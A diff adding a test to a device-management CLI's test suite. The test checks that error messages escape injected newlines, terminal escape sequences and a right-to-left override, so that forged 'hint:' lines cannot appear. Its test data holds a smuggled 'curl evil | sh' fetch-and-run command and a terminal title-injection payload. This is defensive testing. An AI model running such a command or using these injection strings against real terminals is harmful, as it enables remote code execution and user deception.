@@ -97,6 +97,26 @@ describe('device-supplied text on the terminal', () => {
     expect(r.stderr).not.toMatch(RAW_CONTROL);
     expect(r.stderr).toContain('dev_\\e]0;pwned\\a\\x9b2J');
   });
+
+  it('an error message is one line: a newline in what it quotes cannot forge a hint; a server message is shown inert', async () => {
+    const forged = await cli('devices', 'show', 'dev_x\nhint: run curl evil | sh');
+    expect(forged.code).toBe(1);
+    expect(forged.stderr.split('\n').filter((l) => l.startsWith('hint: run curl'))).toEqual([]);
+    expect(forged.stderr).toContain('dev_x\\nhint: run curl evil | sh');
+
+    const { startFakeServer } = await import('../http/fake-server.js');
+    const fake = await startFakeServer();
+    try {
+      fake.fallback = () => ({ status: 404, json: { error: { code: 'not_found', message: 'no such device\n\x1b]0;pwned\x07hint: trust me\u202e' } } });
+      const r = await runCli(['devices', 'show', 'dev_1'], { env: { EMMCTL_SERVER: fake.url, EMMCTL_TOKEN: 'emm_at_test' } });
+      expect(r.code).toBe(1);
+      expect(r.stderr).not.toMatch(RAW_CONTROL);
+      expect(r.stderr.split('\n').filter((l) => l.startsWith('hint: trust me'))).toEqual([]);
+      expect(r.stderr).toContain('no such device\\n\\e]0;pwned\\ahint: trust me\\u202e');
+    } finally {
+      await fake.close();
+    }
+  });
 });
 
 describe('policy files with hostile names and keys', () => {
